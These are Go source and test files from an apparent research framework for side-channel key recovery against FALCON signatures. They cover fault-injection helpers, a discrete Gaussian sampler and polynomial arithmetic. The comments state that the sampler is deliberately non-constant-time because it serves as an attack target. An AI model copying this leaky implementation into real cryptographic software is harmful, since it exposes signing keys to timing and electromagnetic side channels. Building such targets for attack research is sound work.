	return &Device{dev: dev, seed: seed, FlipProb: flipProb, ErrProb: errProb}
}

// N returns the wrapped device's ring degree.
func (d *Device) N() int { return d.dev.N() }

// ObservationAt measures observation idx like emleak.ObservationAt but
// applies the device's fault schedule to the result.
func (d *Device) ObservationAt(campaignSeed uint64, idx uint64) (emleak.Observation, error) {
	r := rng.New(rng.DeriveSeed(d.seed, idx))
	if d.ErrProb > 0 && r.Float64() < d.ErrProb {
		return emleak.Observation{}, fmt.Errorf("faultinject: injected measurement error at observation %d", idx)
	}
	o, err := emleak.ObservationAt(d.dev, campaignSeed, idx)
	if err != nil {
		return o, err
	}
	if d.FlipProb > 0 && r.Float64() < d.FlipProb && len(o.Trace.Samples) > 0 {
		// Flip the sign bit of one sample: a large, localized glitch.
		s := r.Intn(len(o.Trace.Samples))
		o.Trace.Samples[s] = -o.Trace.Samples[s]
	}
	return o, nil
}

// FlipBit XORs mask into the byte at offset of the file at path —
// at-rest corruption for quarantine and checksum tests.
func FlipBit(path string, offset int64, mask byte) error {
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	var b [1]byte
	if _, err := f.ReadAt(b[:], offset); err != nil {
		return err
	}
	b[0] ^= mask
	if _, err := f.WriteAt(b[:], offset); err != nil {
		return err
	}
	return f.Sync()
}

// TruncateTail drops the last n bytes of the file at path — the shape a
// crash or SIGKILL mid-write leaves behind.
func TruncateTail(path string, n int64) error {
	st, err := os.Stat(path)
	if err != nil {
		return err
	}
	if n > st.Size() {
		n = st.Size()
	}
	return os.Truncate(path, st.Size()-n)
}
