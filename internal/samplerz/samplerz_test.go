package samplerz

import (
	"math"
	"testing"

	"falcondown/internal/rng"
)

func TestCDTShape(t *testing.T) {
	if CDTLen() < 8 || CDTLen() > 40 {
		t.Fatalf("CDT length %d out of expected range", CDTLen())
	}
	// Strictly decreasing tail probabilities.
	for k := 1; k < CDTLen(); k++ {
		if TailProb(k) >= TailProb(k-1) {
			t.Fatalf("tail not decreasing at %d", k)
		}
	}
	// P(z0 > 0) for the half-Gaussian: 1 - w0/Σw ≈ 0.695 for σ_max=1.8205.
	w := func(k int) float64 { return math.Exp(-float64(k*k) / (2 * SigmaMax * SigmaMax)) }
	var total float64
	for k := 0; k < 64; k++ {
		total += w(k)
	}
	want := 1 - w(0)/total
	if math.Abs(TailProb(0)-want) > 1e-9 {
		t.Fatalf("P(z0>0) = %v, want %v", TailProb(0), want)
	}
}

func TestBaseSampleDistribution(t *testing.T) {
	s := New(rng.New(1), 1.2778336969128337)
	n := 400000
	counts := make(map[int]int)
	for i := 0; i < n; i++ {
		counts[s.BaseSample()]++
	}
	w := func(k int) float64 { return math.Exp(-float64(k*k) / (2 * SigmaMax * SigmaMax)) }
	var total float64
	for k := 0; k < 64; k++ {
		total += w(k)
	}
	for k := 0; k <= 4; k++ {
		got := float64(counts[k]) / float64(n)
		want := w(k) / total
		if math.Abs(got-want) > 0.005 {
			t.Errorf("P(z0=%d) = %v, want %v", k, got, want)
		}
	}
	if counts[-1] != 0 {
		t.Error("negative base sample")
	}
}

func TestSampleZMoments(t *testing.T) {
	s := New(rng.New(2), 1.2778336969128337)
	cases := []struct{ mu, sigma float64 }{
		{0, 1.5}, {0.5, 1.3}, {-3.7, 1.7}, {1000.25, 1.28}, {-0.1, SigmaMax},
	}
	for _, c := range cases {
		n := 200000
		var sum, sumSq float64
		for i := 0; i < n; i++ {
			z := float64(s.SampleZ(c.mu, c.sigma))
			sum += z
			sumSq += z * z
		}
		mean := sum / float64(n)
		variance := sumSq/float64(n) - mean*mean
		if math.Abs(mean-c.mu) > 0.03 {
			t.Errorf("mu=%v sigma=%v: mean = %v", c.mu, c.sigma, mean)
		}
		if math.Abs(variance-c.sigma*c.sigma) > 0.12*c.sigma*c.sigma {
			t.Errorf("mu=%v sigma=%v: variance = %v, want ~%v", c.mu, c.sigma, variance, c.sigma*c.sigma)
		}
	}
}

func TestSampleZExactProbabilities(t *testing.T) {
	// Compare empirical point probabilities against the discrete Gaussian
	// (a sharper distributional test than moments).
	mu, sigma := 0.3, 1.5
	s := New(rng.New(3), 1.2778336969128337)
	n := 300000
	counts := make(map[int64]int)
	for i := 0; i < n; i++ {
		counts[s.SampleZ(mu, sigma)]++
	}
	rho := func(z int64) float64 {
		d := float64(z) - mu
		return math.Exp(-d * d / (2 * sigma * sigma))
	}
	var total float64
	for z := int64(-30); z <= 30; z++ {
		total += rho(z)
	}
	for z := int64(-3); z <= 4; z++ {
		got := float64(counts[z]) / float64(n)
		want := rho(z) / total
		if math.Abs(got-want) > 0.006 {
			t.Errorf("P(z=%d) = %v, want %v", z, got, want)
		}
	}
}

func TestSampleZDeterministic(t *testing.T) {
	a := New(rng.New(9), 1.3)
	b := New(rng.New(9), 1.3)
	for i := 0; i < 1000; i++ {
		if a.SampleZ(0.7, 1.4) != b.SampleZ(0.7, 1.4) {
			t.Fatal("sampler not deterministic under equal seeds")
		}
	}
}

func TestSampleZLargeCenters(t *testing.T) {
	// Far-from-zero centres must not lose integer precision.
	s := New(rng.New(4), 1.2778336969128337)
	mu := 123456.75
	for i := 0; i < 1000; i++ {
		z := s.SampleZ(mu, 1.4)
		if math.Abs(float64(z)-mu) > 20 {
			t.Fatalf("sample %d implausibly far from centre %v", z, mu)
		}
	}
}

func BenchmarkSampleZ(b *testing.B) {
	s := New(rng.New(5), 1.2778336969128337)
	for i := 0; i < b.N; i++ {
		s.SampleZ(0.4, 1.5)
	}
}

func TestSampleZClampsDegenerateSigma(t *testing.T) {
	// A degenerate trapdoor (e.g. from a partly failed key recovery) can
	// ask for absurd deviations; the sampler must stay bounded and sane.
	s := New(rng.New(5), 1.2778336969128337)
	for _, sigma := range []float64{0, -3, 1e9, math.NaN(), math.Inf(1)} {
		z := s.SampleZ(0.5, sigma)
		if z < -30 || z > 30 {
			t.Fatalf("sigma=%v: sample %d outside clamped range", sigma, z)
		}
	}
	if z := s.SampleZ(math.NaN(), 1.5); z != 0 {
		t.Fatalf("NaN centre: sample %d", z)
	}
	if z := s.SampleZ(math.Inf(-1), 1.5); z != 0 {
		t.Fatalf("-Inf centre: sample %d", z)
	}
}
