// Package samplerz implements FALCON's discrete Gaussian sampler over the
// integers, used by ffSampling to randomize Babai's nearest-plane rounding.
//
// The structure follows the specification: a half-Gaussian base sampler of
// standard deviation σ_max = 1.8205 realized with a cumulative distribution
// table, recentred by a random sign bit, followed by Bernoulli rejection
// with acceptance probability ccs·exp(−x) that converts the proposal into
// D_{Z, σ', μ}. Two deliberate substitutions versus the reference are
// documented in DESIGN.md: the CDT is computed at initialization from
// math.Erfc-quality arithmetic instead of the spec's hardcoded 72-bit RCDT,
// and BerExp uses float64 exponentials instead of the fixed-point
// polynomial — this implementation is an attack *target*, not a hardened
// one, so constant-time execution is explicitly out of scope.
package samplerz

import (
	"math"

	"falcondown/internal/rng"
)

// SigmaMax is the standard deviation of the base half-Gaussian proposal;
// every per-leaf σ' used during signing satisfies σ_min <= σ' <= SigmaMax.
const SigmaMax = 1.8205

// cdt[k] = floor(2^63 · P(z0 > k)) for the half-Gaussian with weight
// proportional to exp(-z²/(2σ_max²)) on z = 0, 1, 2, ...
var cdt []uint64

func init() {
	scale := math.Ldexp(1, 63)
	// Tail weights decay like exp(-k²/6.63); 32 entries are far beyond
	// the 2^-63 resolution of the table.
	weights := make([]float64, 40)
	var total float64
	for k := range weights {
		weights[k] = math.Exp(-float64(k) * float64(k) / (2 * SigmaMax * SigmaMax))
		total += weights[k]
	}
	tail := total
	for k := range weights {
		tail -= weights[k]
		// Floating cancellation can push the tail a hair below zero once
		// the true tail shrinks past the 2^-53 resolution; clamp before
		// converting (a negative float64-to-uint64 conversion is
		// implementation-defined and produced garbage table entries).
		if tail <= 0 {
			break
		}
		v := uint64(math.Round(scale * tail / total))
		if v == 0 {
			break
		}
		cdt = append(cdt, v)
	}
}

// Sampler draws discrete Gaussians using a deterministic random stream.
type Sampler struct {
	rnd      *rng.Xoshiro
	sigmaMin float64

	// FixedPoint switches BerExp to the reference-style integer
	// exponential (ExpM63 + lazy byte-wise rejection) instead of the
	// float64 fast path. Both produce the same distribution; the
	// fixed-point path mirrors the structure of FALCON's fpr_expm_p63.
	FixedPoint bool
}

// New returns a sampler with the given randomness source and the parameter
// set's σ_min (the smallest leaf standard deviation, e.g. 1.2778… for
// FALCON-512).
func New(rnd *rng.Xoshiro, sigmaMin float64) *Sampler {
	return &Sampler{rnd: rnd, sigmaMin: sigmaMin}
}

// BaseSample draws z0 >= 0 from the half-Gaussian of deviation σ_max by
// inverting the cumulative table with a 63-bit uniform value.
func (s *Sampler) BaseSample() int {
	u := s.rnd.Uint64() >> 1
	z0 := 0
	for _, t := range cdt {
		if u < t {
			z0++
		}
	}
	return z0
}

// berExp returns true with probability ccs·exp(−x), for x >= 0.
func (s *Sampler) berExp(x, ccs float64) bool {
	if s.FixedPoint {
		return s.berExpFixed(x, ccs)
	}
	p := ccs * math.Exp(-x)
	return s.rnd.Float64() < p
}

// SampleZ draws z from the discrete Gaussian D_{Z, σ', μ} centred at mu
// with standard deviation sigma. The admissible range is
// σ_min <= σ' <= σ_max (FALCON's keygen guarantees every ffLDL leaf lands
// inside it); out-of-range or non-finite deviations — which arise when
// sampling with a degenerate trapdoor, e.g. one reconstructed by a partly
// failed key-recovery attack — are clamped so the rejection loop keeps a
// bounded acceptance rate instead of spinning forever.
func (s *Sampler) SampleZ(mu, sigma float64) int64 {
	if math.IsNaN(mu) || math.IsInf(mu, 0) {
		return 0
	}
	if !(sigma >= s.sigmaMin) { // also catches NaN
		sigma = s.sigmaMin
	}
	if sigma > SigmaMax {
		sigma = SigmaMax
	}
	base := math.Floor(mu)
	r := mu - base // fractional centre in [0, 1)
	ccs := s.sigmaMin / sigma
	dss := 1 / (2 * sigma * sigma)
	for {
		z0 := s.BaseSample()
		b := s.rnd.Bit()
		z := float64(b) + float64(2*b-1)*float64(z0)
		// x = (z−r)²/(2σ'²) − z0²/(2σ_max²): the log-ratio between the
		// target probability at z and the proposal probability at z0.
		x := (z-r)*(z-r)*dss - float64(z0)*float64(z0)/(2*SigmaMax*SigmaMax)
		if s.berExp(x, ccs) {
			return int64(base) + int64(z)
		}
	}
}

// CDTLen exposes the table length for tests.
func CDTLen() int { return len(cdt) }

// TailProb returns P(z0 > k) implied by the table, for tests.
func TailProb(k int) float64 {
	if k < 0 || k >= len(cdt) {
		return 0
	}
	return float64(cdt[k]) / math.Ldexp(1, 63)
}
