package samplerz

import (
	"math"
	"testing"

	"falcondown/internal/rng"
)

func TestExpM63MatchesExp(t *testing.T) {
	for x := 0.0; x < math.Ln2; x += 0.003 {
		for _, ccs := range []float64{1.0, 0.9, 0.7013, 0.5} {
			got := float64(ExpM63(x, ccs)) / (1 << 63)
			want := ccs * math.Exp(-x)
			if math.Abs(got-want) > 1e-9 {
				t.Fatalf("ExpM63(%v, %v) = %v, want %v", x, ccs, got, want)
			}
		}
	}
}

func TestExpM63Constants(t *testing.T) {
	// C[0] = 2^63, C[1] = 2^63, C[2] = 2^62, C[3] = round(2^63/6).
	if expmC[0] != 1<<63 {
		t.Errorf("C0 = %#x", expmC[0])
	}
	if expmC[1] != 1<<63 {
		t.Errorf("C1 = %#x", expmC[1])
	}
	if expmC[2] != 1<<62 {
		t.Errorf("C2 = %#x", expmC[2])
	}
	want3 := uint64(1) << 63 / 6 // 2^63/6 rounds to the same integer
	if d := int64(expmC[3]) - int64(want3); d > 1 || d < -1 {
		t.Errorf("C3 = %#x, want ≈%#x", expmC[3], want3)
	}
	for k := 1; k < len(expmC); k++ {
		if expmC[k] > expmC[k-1] {
			t.Errorf("C not decreasing at %d", k)
		}
	}
}

func TestBerExpFixedProbability(t *testing.T) {
	sp := New(rng.New(1), 1.2778336969128337)
	sp.FixedPoint = true
	cases := []struct{ x, ccs float64 }{
		{0.1, 1.0}, {0.5, 0.8}, {1.7, 0.9}, {3.0, 1.0}, {7.5, 0.75},
	}
	const n = 300000
	for _, c := range cases {
		hits := 0
		for i := 0; i < n; i++ {
			if sp.berExp(c.x, c.ccs) {
				hits++
			}
		}
		got := float64(hits) / n
		want := c.ccs * math.Exp(-c.x)
		if math.Abs(got-want) > 0.004 {
			t.Errorf("berExpFixed(%v, %v) rate = %v, want %v", c.x, c.ccs, got, want)
		}
	}
}

func TestSampleZFixedPointMatchesFloatDistribution(t *testing.T) {
	// Both BerExp paths must produce the same discrete Gaussian.
	mu, sigma := 0.4, 1.5
	moments := func(fixed bool, seed uint64) (mean, variance float64) {
		sp := New(rng.New(seed), 1.2778336969128337)
		sp.FixedPoint = fixed
		const n = 150000
		var sum, sumSq float64
		for i := 0; i < n; i++ {
			z := float64(sp.SampleZ(mu, sigma))
			sum += z
			sumSq += z * z
		}
		mean = sum / n
		return mean, sumSq/n - mean*mean
	}
	mf, vf := moments(false, 7)
	mx, vx := moments(true, 8)
	if math.Abs(mf-mx) > 0.03 {
		t.Errorf("means differ: %v vs %v", mf, mx)
	}
	if math.Abs(vf-vx) > 0.1 {
		t.Errorf("variances differ: %v vs %v", vf, vx)
	}
}

func BenchmarkBerExpFixed(b *testing.B) {
	sp := New(rng.New(2), 1.3)
	sp.FixedPoint = true
	for i := 0; i < b.N; i++ {
		sp.berExp(0.7, 0.9)
	}
}
