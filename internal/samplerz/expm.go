package samplerz

import (
	"math"
	"math/big"
	"math/bits"
)

// This file implements the fixed-point exponential used by FALCON's
// reference BerExp: expm_p63 evaluates ccs·exp(−x)·2^63 with integer-only
// Horner evaluation of the Taylor polynomial of degree 12. The constants
// are derived at init time (round(2^63/k!)) instead of being pasted from
// the reference, and the routine is validated against math.Exp in the
// tests. The sampler can run with either this fixed-point path (closer to
// the reference implementation) or the float64 path (default).

// expmC[k] = round(2^63 / k!) for k = 0..12.
var expmC [13]uint64

func init() {
	one63 := new(big.Int).Lsh(big.NewInt(1), 63)
	fact := big.NewInt(1)
	for k := 0; k < len(expmC); k++ {
		if k > 0 {
			fact.Mul(fact, big.NewInt(int64(k)))
		}
		q := new(big.Int).Mul(one63, big.NewInt(2))
		q.Div(q, fact) // 2^64/k!
		// round(2^63/k!) = (2^64/k! + 1) / 2
		q.Add(q, big.NewInt(1))
		q.Rsh(q, 1)
		expmC[k] = q.Uint64()
	}
}

// mulHi63 returns floor(a·b / 2^63) for a, b < 2^63.
func mulHi63(a, b uint64) uint64 {
	hi, lo := bits.Mul64(a, b)
	return hi<<1 | lo>>63
}

// ExpM63 returns ccs·exp(−x)·2^63 (rounded down, within a few parts in
// 2^40 of the exact value) for 0 <= x < ln 2 and 0 < ccs <= 1, both given
// as float64 and converted to 0.63 fixed point internally.
func ExpM63(x, ccs float64) uint64 {
	z := uint64(x * (1 << 63))
	y := expmC[len(expmC)-1]
	for k := len(expmC) - 2; k >= 0; k-- {
		y = expmC[k] - mulHi63(z, y)
	}
	c := uint64(ccs * (1 << 63))
	r := mulHi63(c, y)
	if r > 1<<63-1 {
		// The x = 0, ccs = 1 corner evaluates to exactly 2^63; saturate a
		// hair below so callers can shift the value safely.
		r = 1<<63 - 1
	}
	return r
}

// berExpFixed returns true with probability ccs·exp(−x) using the
// reference implementation's structure: split x = s·ln2 + r, compute
// ccs·exp(−r) in fixed point, shift by s, and compare byte-by-byte
// against fresh random bytes (lazy rejection).
func (sp *Sampler) berExpFixed(x, ccs float64) bool {
	s := math.Floor(x / math.Ln2)
	r := x - s*math.Ln2
	if s > 63 {
		s = 63
	}
	// z ≈ ccs·exp(−r)·2^64 >> s, minus one to avoid the z = 2^64 corner.
	z := (ExpM63(r, ccs)<<1 - 1) >> uint(s)
	// Accept iff a uniform 64-bit value is below z, comparing lazily from
	// the most significant byte (the reference's early-abort structure).
	for i := 56; i >= 0; i -= 8 {
		w := int(z>>uint(i)&0xFF) - int(sp.rnd.Uint64()&0xFF)
		if w != 0 {
			return w > 0
		}
	}
	return false
}
