// Package poly provides small-coefficient polynomial helpers shared by
// the scheme, the attack, and the test suites: arithmetic in
// Z[x]/(x^n+1) over int16/int64 coefficients, norms, and reference
// (schoolbook) negacyclic convolution used as an oracle against the
// FFT/NTT fast paths.
package poly

import "fmt"

// Add returns a+b coefficient-wise.
func Add(a, b []int16) []int16 {
	out := make([]int16, len(a))
	for i := range a {
		out[i] = a[i] + b[i]
	}
	return out
}

// Sub returns a-b coefficient-wise.
func Sub(a, b []int16) []int16 {
	out := make([]int16, len(a))
	for i := range a {
		out[i] = a[i] - b[i]
	}
	return out
}

// Neg returns -a.
func Neg(a []int16) []int16 {
	out := make([]int16, len(a))
	for i := range a {
		out[i] = -a[i]
	}
	return out
}

// Equal reports coefficient-wise equality.
func Equal(a, b []int16) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// SqNorm returns Σ aᵢ² as an int64.
func SqNorm(a []int16) int64 {
	var s int64
	for _, v := range a {
		s += int64(v) * int64(v)
	}
	return s
}

// InfNorm returns max |aᵢ|.
func InfNorm(a []int16) int {
	m := 0
	for _, v := range a {
		w := int(v)
		if w < 0 {
			w = -w
		}
		if w > m {
			m = w
		}
	}
	return m
}

// IsZero reports whether all coefficients vanish.
func IsZero(a []int16) bool {
	for _, v := range a {
		if v != 0 {
			return false
		}
	}
	return true
}

// NegacyclicMul returns a·b mod (x^n+1) with exact int64 accumulation —
// the O(n²) schoolbook reference used to validate the FFT and NTT paths.
func NegacyclicMul(a, b []int16) ([]int64, error) {
	n := len(a)
	if len(b) != n {
		return nil, fmt.Errorf("poly: length mismatch %d vs %d", n, len(b))
	}
	out := make([]int64, n)
	for i := 0; i < n; i++ {
		if a[i] == 0 {
			continue
		}
		av := int64(a[i])
		for j := 0; j < n; j++ {
			p := av * int64(b[j])
			k := i + j
			if k >= n {
				out[k-n] -= p
			} else {
				out[k] += p
			}
		}
	}
	return out, nil
}

// ToInt64 widens the coefficients.
func ToInt64(a []int16) []int64 {
	out := make([]int64, len(a))
	for i, v := range a {
		out[i] = int64(v)
	}
	return out
}

// Equal64 reports coefficient-wise equality of int64 polynomials.
func Equal64(a, b []int64) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
