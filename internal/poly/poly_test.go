package poly

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func randPoly(r *rand.Rand, n, bound int) []int16 {
	p := make([]int16, n)
	for i := range p {
		p[i] = int16(r.Intn(2*bound+1) - bound)
	}
	return p
}

func TestAddSubNeg(t *testing.T) {
	r := rand.New(rand.NewSource(1))
	a := randPoly(r, 16, 100)
	b := randPoly(r, 16, 100)
	if !Equal(Sub(Add(a, b), b), a) {
		t.Error("(a+b)-b != a")
	}
	if !Equal(Add(a, Neg(a)), make([]int16, 16)) {
		t.Error("a+(-a) != 0")
	}
	if !IsZero(Add(a, Neg(a))) {
		t.Error("IsZero")
	}
	if IsZero(a) {
		t.Error("random poly reported zero")
	}
}

func TestEqual(t *testing.T) {
	if Equal([]int16{1}, []int16{1, 2}) {
		t.Error("length mismatch accepted")
	}
	if !Equal([]int16{1, -2}, []int16{1, -2}) {
		t.Error("equal polys rejected")
	}
	if Equal([]int16{1, -2}, []int16{1, 2}) {
		t.Error("unequal polys accepted")
	}
}

func TestNorms(t *testing.T) {
	a := []int16{3, -4, 0, 1}
	if SqNorm(a) != 9+16+1 {
		t.Errorf("SqNorm = %d", SqNorm(a))
	}
	if InfNorm(a) != 4 {
		t.Errorf("InfNorm = %d", InfNorm(a))
	}
	if InfNorm(nil) != 0 || SqNorm(nil) != 0 {
		t.Error("empty norms")
	}
}

func TestNegacyclicMulIdentity(t *testing.T) {
	r := rand.New(rand.NewSource(2))
	a := randPoly(r, 8, 50)
	one := make([]int16, 8)
	one[0] = 1
	got, err := NegacyclicMul(a, one)
	if err != nil {
		t.Fatal(err)
	}
	if !Equal64(got, ToInt64(a)) {
		t.Error("a·1 != a")
	}
	// x^n = -1: multiplying by x rotates with sign flip.
	x := make([]int16, 8)
	x[1] = 1
	got, err = NegacyclicMul(a, x)
	if err != nil {
		t.Fatal(err)
	}
	want := make([]int64, 8)
	want[0] = -int64(a[7])
	for i := 1; i < 8; i++ {
		want[i] = int64(a[i-1])
	}
	if !Equal64(got, want) {
		t.Errorf("a·x wrong: %v vs %v", got, want)
	}
}

func TestNegacyclicMulLengthMismatch(t *testing.T) {
	if _, err := NegacyclicMul([]int16{1, 2}, []int16{1}); err == nil {
		t.Error("length mismatch accepted")
	}
}

func TestQuickNegacyclicCommutative(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		a := randPoly(r, 16, 30)
		b := randPoly(r, 16, 30)
		ab, _ := NegacyclicMul(a, b)
		ba, _ := NegacyclicMul(b, a)
		return Equal64(ab, ba)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestQuickNegacyclicDistributive(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		a := randPoly(r, 8, 20)
		b := randPoly(r, 8, 20)
		c := randPoly(r, 8, 20)
		lhs, _ := NegacyclicMul(Add(a, b), c)
		ac, _ := NegacyclicMul(a, c)
		bc, _ := NegacyclicMul(b, c)
		for i := range lhs {
			if lhs[i] != ac[i]+bc[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
