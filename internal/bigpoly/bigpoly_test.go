package bigpoly

import (
	"math/big"
	"math/rand"
	"testing"
	"time"
)

func randPoly(r *rand.Rand, n, bound int) Poly {
	p := New(n)
	for i := range p {
		p[i].SetInt64(int64(r.Intn(2*bound+1) - bound))
	}
	return p
}

// naiveMul is the O(n²) reference negacyclic product.
func naiveMul(a, b Poly) Poly {
	n := len(a)
	out := New(n)
	var t big.Int
	for i := 0; i < n; i++ {
		for j := 0; j < n; j++ {
			t.Mul(a[i], b[j])
			k := i + j
			if k >= n {
				out[k-n].Sub(out[k-n], &t)
			} else {
				out[k].Add(out[k], &t)
			}
		}
	}
	return out
}

func polyEq(a, b Poly) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i].Cmp(b[i]) != 0 {
			return false
		}
	}
	return true
}

func TestMulMatchesNaive(t *testing.T) {
	r := rand.New(rand.NewSource(1))
	for _, n := range []int{1, 2, 4, 8, 16, 32, 64, 128} {
		a := randPoly(r, n, 1000)
		b := randPoly(r, n, 1000)
		if !polyEq(Mul(a, b), naiveMul(a, b)) {
			t.Fatalf("n=%d: Karatsuba != naive", n)
		}
	}
}

func TestMulLargeCoefficients(t *testing.T) {
	// Karatsuba must stay exact with multi-word coefficients.
	r := rand.New(rand.NewSource(2))
	n := 32
	a := New(n)
	b := New(n)
	for i := 0; i < n; i++ {
		a[i].Rand(r, new(big.Int).Lsh(big.NewInt(1), 300))
		a[i].Sub(a[i], new(big.Int).Lsh(big.NewInt(1), 299))
		b[i].Rand(r, new(big.Int).Lsh(big.NewInt(1), 300))
		b[i].Sub(b[i], new(big.Int).Lsh(big.NewInt(1), 299))
	}
	if !polyEq(Mul(a, b), naiveMul(a, b)) {
		t.Fatal("Karatsuba wrong on large coefficients")
	}
}

func TestAddSubNeg(t *testing.T) {
	r := rand.New(rand.NewSource(3))
	a := randPoly(r, 16, 50)
	b := randPoly(r, 16, 50)
	if !polyEq(Sub(Add(a, b), b), a) {
		t.Error("(a+b)-b != a")
	}
	if !polyEq(Add(a, Neg(a)), New(16)) {
		t.Error("a + (-a) != 0")
	}
	if !New(4).IsZero() || randOne().IsZero() {
		t.Error("IsZero misbehaves")
	}
}

func randOne() Poly {
	p := New(4)
	p[2].SetInt64(5)
	return p
}

func TestGaloisConjugateIsEvaluationAtMinusX(t *testing.T) {
	// f(-x) · f(x) must equal N(f)(x²) — checked via FieldNorm below; here
	// check the simple coefficient rule and involution.
	r := rand.New(rand.NewSource(4))
	p := randPoly(r, 16, 100)
	c := GaloisConjugate(p)
	for i := range p {
		want := new(big.Int).Set(p[i])
		if i&1 == 1 {
			want.Neg(want)
		}
		if c[i].Cmp(want) != 0 {
			t.Fatalf("coeff %d", i)
		}
	}
	if !polyEq(GaloisConjugate(c), p) {
		t.Error("galois conjugate is not an involution")
	}
}

func TestFieldNormIdentity(t *testing.T) {
	// N(f)(x²) == f(x)·f(-x) in Z[x]/(x^n+1).
	r := rand.New(rand.NewSource(5))
	for _, n := range []int{2, 4, 8, 32} {
		f := randPoly(r, n, 100)
		lhs := Lift(FieldNorm(f))
		rhs := Mul(f, GaloisConjugate(f))
		if !polyEq(lhs, rhs) {
			t.Fatalf("n=%d: N(f)(x²) != f(x)f(-x)", n)
		}
	}
}

func TestFieldNormMultiplicative(t *testing.T) {
	// N(fg) == N(f)·N(g).
	r := rand.New(rand.NewSource(6))
	for _, n := range []int{2, 8, 16} {
		f := randPoly(r, n, 30)
		g := randPoly(r, n, 30)
		if !polyEq(FieldNorm(Mul(f, g)), Mul(FieldNorm(f), FieldNorm(g))) {
			t.Fatalf("n=%d: field norm not multiplicative", n)
		}
	}
}

func TestLift(t *testing.T) {
	p := FromInt16([]int16{1, 2, 3, 4})
	l := Lift(p)
	want := []int64{1, 0, 2, 0, 3, 0, 4, 0}
	for i, w := range want {
		if l[i].Int64() != w {
			t.Fatalf("lift coeff %d = %v", i, l[i])
		}
	}
}

func TestToInt16Bounds(t *testing.T) {
	p := New(2)
	p[0].SetInt64(32767)
	p[1].SetInt64(-32768)
	v, ok := p.ToInt16()
	if !ok || v[0] != 32767 || v[1] != -32768 {
		t.Fatal("in-range conversion failed")
	}
	p[0].SetInt64(32768)
	if _, ok := p.ToInt16(); ok {
		t.Fatal("overflow not detected")
	}
	p[0].SetString("123456789012345678901234567890", 10)
	if _, ok := p.ToInt16(); ok {
		t.Fatal("big overflow not detected")
	}
}

func TestScalarMulShiftLeft(t *testing.T) {
	p := FromInt16([]int16{1, -2, 3, 0})
	q := ScalarMul(p, big.NewInt(-3))
	want := []int64{-3, 6, -9, 0}
	for i := range want {
		if q[i].Int64() != want[i] {
			t.Fatalf("scalar mul coeff %d", i)
		}
	}
	s := ShiftLeft(p, 4)
	for i := range p {
		if s[i].Int64() != p[i].Int64()*16 {
			t.Fatalf("shift coeff %d", i)
		}
	}
}

func TestFloatFFTRoundTrip(t *testing.T) {
	r := rand.New(rand.NewSource(7))
	for _, n := range []int{2, 4, 16, 128} {
		f := make([]float64, n)
		for i := range f {
			f[i] = float64(r.Intn(2001) - 1000)
		}
		back := FloatInvFFT(FloatFFT(f))
		for i := range f {
			if d := back[i] - f[i]; d > 1e-6 || d < -1e-6 {
				t.Fatalf("n=%d i=%d: %v != %v", n, i, back[i], f[i])
			}
		}
	}
}

func TestMaxBitLen(t *testing.T) {
	p := New(3)
	if p.MaxBitLen() != 0 {
		t.Error("zero poly bitlen")
	}
	p[1].SetInt64(255)
	if p.MaxBitLen() != 8 {
		t.Errorf("bitlen = %d", p.MaxBitLen())
	}
	p[2].SetInt64(-1 << 20)
	if p.MaxBitLen() != 21 {
		t.Errorf("bitlen = %d", p.MaxBitLen())
	}
}

func TestClone(t *testing.T) {
	p := FromInt16([]int16{1, 2})
	q := p.Clone()
	q[0].SetInt64(99)
	if p[0].Int64() != 1 {
		t.Fatal("clone aliases original")
	}
}

func TestReduceShrinks(t *testing.T) {
	// Build an artificially inflated (F, G) = (F0 + k·f, G0 + k·g) and
	// check Reduce brings the coefficients back near the original size
	// while preserving fG − gF.
	r := rand.New(rand.NewSource(8))
	n := 16
	f := randPoly(r, n, 5)
	g := randPoly(r, n, 5)
	F0 := randPoly(r, n, 50)
	G0 := randPoly(r, n, 50)
	k := randPoly(r, n, 1<<20)
	F := Add(F0, Mul(k, f))
	G := Add(G0, Mul(k, g))
	det0 := Sub(Mul(f, G), Mul(g, F))
	before := F.MaxBitLen()
	Reduce(f, g, F, G)
	det1 := Sub(Mul(f, G), Mul(g, F))
	if !polyEq(det0, det1) {
		t.Fatal("Reduce changed fG − gF")
	}
	if F.MaxBitLen() >= before {
		t.Fatalf("Reduce did not shrink: %d -> %d", before, F.MaxBitLen())
	}
	if F.MaxBitLen() > 30 {
		t.Fatalf("Reduce left F large: %d bits", F.MaxBitLen())
	}
}

func TestReduceTerminatesOnInconsistentInput(t *testing.T) {
	// Reduce must not oscillate forever when (F, G) is unrelated to (f, g)
	// (the stall guard): it should return quickly, preserving fG − gF.
	r := rand.New(rand.NewSource(9))
	n := 8
	f := randPoly(r, n, 3)
	g := randPoly(r, n, 3)
	F := randPoly(r, n, 1<<30)
	G := randPoly(r, n, 1<<30)
	det0 := Sub(Mul(f, G), Mul(g, F))
	done := make(chan struct{})
	go func() {
		Reduce(f, g, F, G)
		close(done)
	}()
	select {
	case <-done:
	case <-timeAfter():
		t.Fatal("Reduce did not terminate within the deadline")
	}
	det1 := Sub(Mul(f, G), Mul(g, F))
	if !polyEq(det0, det1) {
		t.Fatal("Reduce changed fG − gF")
	}
}

// timeAfter returns a 30-second deadline channel (kept out of the import
// list juggling above).
func timeAfter() <-chan time.Time { return time.After(30 * time.Second) }
