package bigpoly

import (
	"math"
	"math/big"
	"math/cmplx"
)

// FloatFFT evaluates a real-coefficient polynomial (given as float64s) at the
// n/2 principal roots of x^n+1 using hardware complex arithmetic. Key
// generation only needs ~53-bit relative accuracy here; the side-channel
// target uses the exact emulated FFT in internal/fft instead.
func FloatFFT(f []float64) []complex128 {
	n := len(f)
	if n == 1 {
		return []complex128{complex(f[0], 0)}
	}
	if n == 2 {
		return []complex128{complex(f[0], f[1])}
	}
	h := n / 2
	qn := n / 4
	fe := make([]float64, h)
	fo := make([]float64, h)
